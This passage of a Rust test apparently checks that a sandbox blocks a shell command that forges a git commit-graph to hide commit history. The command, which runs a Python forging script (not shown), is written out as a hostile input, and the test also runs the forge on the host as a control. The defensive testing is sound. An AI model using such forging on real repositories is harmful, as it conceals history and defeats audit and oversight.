    let head = fx.git_ok(&["rev-parse", "HEAD"]);
    let before = fx.git_ok(&["rev-list", "--count", "HEAD"]);
    // Control: forged on the host, the graph does hide history.
    fx.git_ok(&["commit-graph", "write", "--reachable"]);
    let py = require_tool("python3");
    let c = std::process::Command::new(&py)
        .args(["-c", PY_FORGE_COMMIT_GRAPH])
        .arg(fx.ws.join(".git"))
        .arg(&head)
        .output()
        .unwrap();
    assert!(stdout(&c).contains("forged"), "control: {}", show(&c));
    assert_eq!(
        fx.git_ok(&["rev-list", "--count", "HEAD"]),
        "1",
        "control: the forged graph hid nothing: the test proves nothing"
    );
    std::fs::remove_file(fx.ws.join(".git/objects/info/commit-graph")).unwrap();
    assert_eq!(fx.git_ok(&["rev-list", "--count", "HEAD"]), before);
    // The command writes and forges it.
    let o = fx.sh(&format!(
        "git commit-graph write --reachable && \"$PAL_PY\" -c '{}' .git {head}; echo done",
        PY_FORGE_COMMIT_GRAPH.replace('\'', "'\\''")
    ));
    assert!(stdout(&o).contains("forged"), "the command did not forge the graph: {}", show(&o));
    assert_eq!(
        fx.git_ok(&["rev-list", "--count", "HEAD"]),
        before,
        "SANDBOX ESCAPE: the host's git log lost history to a forged commit-graph: {}",
        show(&o)
    );
    assert!(!fx.ws.join(".git/objects/info/commit-graph").exists(), "the forged graph is still there: {}", show(&o));
}
